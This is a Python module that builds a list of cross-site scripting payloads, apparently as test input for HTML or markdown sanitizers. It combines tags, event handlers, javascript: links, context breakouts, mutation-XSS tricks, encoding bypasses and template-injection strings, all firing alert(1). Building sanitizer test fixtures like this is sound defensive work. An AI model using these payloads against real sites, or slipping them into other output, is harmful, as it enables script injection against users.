"""Texts that would run a script where a page is careless: by hand, and every tag with every way to run one."""

from __future__ import annotations

from itertools import product

RUN = "alert(1)"
_TAGS = (
    "img",
    "svg",
    "video",
    "audio",
    "body",
    "details",
    "input",
    "iframe",
    "object",
    "marquee",
    "math",
    "x",
    "button",
    "select",
)
_EVENTS = (
    "onerror",
    "onload",
    "onfocus autofocus tabindex=0",
    "ontoggle open",
    "onmouseover",
    "onanimationstart style=animation-name:x",
    "onpointerenter",
    "onbegin",
)
_BREAKS = ('"', "'", "`", "-->", "]]>", "</p>", "</div>", "</textarea>", "</title>", "</script>", "</style>", "&quot;")
_LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:alert(1)",
    "blob:http://x/alert(1)",
)
_CODE = (
    "<script>alert(1)</script>",
    "<script src=data:,alert(1)></script>",
    "<svg><script>alert(1)</script></svg>",
    "<math><script>alert(1)</script></math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><button formaction=javascript:alert(1)>x",
    "<a href=javascript:alert(1) autofocus>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:/a/+alert(1)//>",
    "<link rel=stylesheet href=data:,*{x:expression(alert(1))}>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= alert(1) %>",
    "{{ self.__init__.__globals__ }}",
    "'-alert(1)-'",
    '";alert(1);//',
    "</script><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=`x`onerror=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "<svg/onload=alert(1)//",
    "<<script>alert(1)//<</script>",
    "\u2028<script>alert(1)</script>\u2029",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$$\\href{javascript:alert(1)}{x}$$",
    "```html\n<img src=x onerror=alert(1)>\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "| <img src=x onerror=alert(1)> |\n|---|\n| <svg onload=alert(1)> |",
    '![x](x"onerror="alert(1))',
    '[x](http://e.example/"onmouseover="alert(1))',
    '<http://e.example/"onclick=alert(1)//>',
    "[x]: javascript:alert(1)\n\n[x]",
)
PAYLOADS: tuple[str, ...] = (
    *_CODE,
    *(
        f"<{tag} src=x {event.split()[0]}={RUN} {' '.join(event.split()[1:])}>"
        for tag, event in product(_TAGS, _EVENTS)
    ),
    *(f"{close}<img src=x onerror={RUN}>" for close in _BREAKS),
    *(f"{close} onfocus={RUN} autofocus x={close}" for close in _BREAKS[:3]),
    *(f"[x]({link})" for link in _LINKS),
    *(f"<a href='{link}'>x</a>" for link in _LINKS),
    *(f"![x]({link})" for link in _LINKS),
    *(f"<{link}>" for link in _LINKS[:2]),
)
